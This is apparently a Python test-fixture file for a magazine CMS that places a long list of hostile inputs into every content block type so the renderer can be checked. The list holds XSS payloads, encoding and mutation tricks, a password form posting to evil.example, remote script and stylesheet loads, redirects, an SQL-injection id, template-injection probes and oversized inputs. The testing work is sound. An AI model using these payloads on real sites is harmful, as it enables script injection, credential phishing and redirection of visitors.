"""Texts that somebody might send instead of an article, and blocks full of them."""

from tests.webmag import bodies

CALL = "alert(1)"
PAYLOADS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{CALL}",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror='{CALL}'//",
    f'<img src="x:x" onerror="{CALL}"',
    f"<img/src=x/onerror={CALL}>",
    f"<IMG SRC=x onload={CALL} oneonerrorrror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script xlink:href='data:,{CALL}'></script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
    f"<svg><style>*{{x:expression({CALL})}}</style></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>",
    f"<math><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={CALL}>",
    f"<math><annotation-xml encoding='text/html'><script>{CALL}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src='data:text/html,<script>{CALL}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    "<embed embedtype='media' url='https://evil.example/'/>",
    "<embed embedtype='image' id='1' format='left' alt='x'/>",
    f"<applet code='javascript:{CALL}'></applet>",
    f"<body onload={CALL}>",
    f"<html onmouseover={CALL}><head><base href='https://evil.example/'></head>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Connectez-vous</div>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    f"<p onclick={CALL} onmouseover={CALL} tabindex=1 autofocus onfocus={CALL}>x</p>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<button formaction='javascript:{CALL}'>x</button>",
    "<form action=https://evil.example/><input name=password></form>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href='JaVaScRiPt:{CALL}'>x</a>",
    f"<a href=' \x01javascript:{CALL}'>x</a>",
    f"<a href='java\nscript:{CALL}'>x</a>",
    f"<a href='java&#10;script:{CALL}'>x</a>",
    f"<a href='&#106;&#97;vascript:{CALL}'>x</a>",
    f"<a href='&#x6A&#x61vascript:{CALL}'>x</a>",
    f"<a href='javascript&colon;{CALL}'>x</a>",
    f"<a href='vbscript:{CALL}'>x</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='\\\\evil.example/'>x</a>",
    "<a href='/\t/evil.example/'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='../../gestion/logout/'>x</a>",
    "<a linktype='page' id='1 OR 1=1'>x</a>",
    "<a linktype='page' id='99999999999999999999'>x</a>",
    "<a linktype='page'>x</a>",
    "<a linktype='script' href='javascript:alert(1)' id='1'>x</a>",
    f"<a linktype='document' id='-1' onclick='{CALL}' href='https://evil.example'>x</a>",
    f"<a href='https://a.example/\" onmouseover=\"{CALL}'>x</a>",
    f'"><script>{CALL}</script>',
    f"'-{CALL}-'",
    f"</script><script>{CALL}</script>",
    f"</textarea></title></style><script>{CALL}</script>",
    f"--><img src=x onerror={CALL}><!--",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?xml version='1.0'?><script>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'></xmp>",
    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    f"<title><p title='</title><img src=x onerror={CALL}>'>",
    f"<b><b><b><b><i><svg><b onload={CALL}>",
    f"<table><tr><td><svg><desc><![CDATA[</desc><script>{CALL}</script>]]></svg></table>",
    f"<x onclick={CALL}>x</x>",
    f"<custom-element onpointerenter={CALL}>x</custom-element>",
    "<click-to-play data-frame='javascript:alert(1)'><a href=#>x</a></click-to-play>",
    "<listing-map data-leaflet='//evil.example/x.js'></listing-map>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#30;<a href='{CALL}'>&#x1e;&#27;&#xd800;x</a>",
    "&#x;&#99999999;&notanentity;&#0;&",
    "{{ 7|add:7 }}{% load static %}{% static 'x' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "nul \x00 fin",
    "moitié \ud83d fin \udc00",
    "\u202e<script>alert(1)</script>\u202c \u2066\u200f\u202bעברית\u061c",
    "\ufeff\u2028\u2029\x0b\x1b[31m",
    "😀👩‍🌾 Ǝ 𝕊 ﷽ Z͑ͫ̓a̴l͓g̈o",
    f"<a{' ' * 300}href={'x' * 300} onclick={CALL}>",
    "<b>" * 300 + "profond",
    "<" * 500,
]
HUGE = [
    "é" * 200_000,
    "<b>" * 66_000,
    "<ul><li>" * 25_000,
    "<a href='https://a.example/'>x" * 8_000,
]


def blocks_with(text):
    """Every block that holds text, with this one in each of its places."""
    rich = [("text", text), ("text", f"<p>{text}</p>")]
    return [
        *rich,
        ("heading", text),
        ("quote", {"text": text, "author": text}),
        ("interview", {"who": text, "exchanges": [{"question": text, "answer": text}]}),
        ("embed", {"url": text, "title": text, "photo": None, "caption": text}),
        ("embed", {"url": bodies.VIDEO, "title": text, "photo": None, "caption": text}),
        (
            "recipe",
            bodies.recipe(name=text, serves=text, ingredients=[text], steps=[text], tip=text),
        ),
        (
            "practical",
            {"title": text, "listing": None, "rows": [{"label": text, "text": text}]},
        ),
        (
            "table",
            {
                "table": bodies.table(
                    columns=[{"type": "text", "heading": text}],
                    rows=[{"values": [text]}],
                    caption=text,
                ),
                "row_headings": True,
            },
        ),
    ]


def blocks_with_pictures(text, photo, listing, file):
    """The others: what they show is chosen, and they have words beside it."""
    return [
        ("photo", {"photo": photo, "caption": text, "alt": text}),
        ("gallery", {"title": text, "slides": [{"photo": photo, "caption": text}] * 2}),
        ("map", {"title": text, "listings": [listing, listing]}),
        ("file", {"file": file, "label": text}),
    ]


def blocks():
    """All payloads in all blocks: one page of them."""
    return [block for text in PAYLOADS for block in blocks_with(text)]
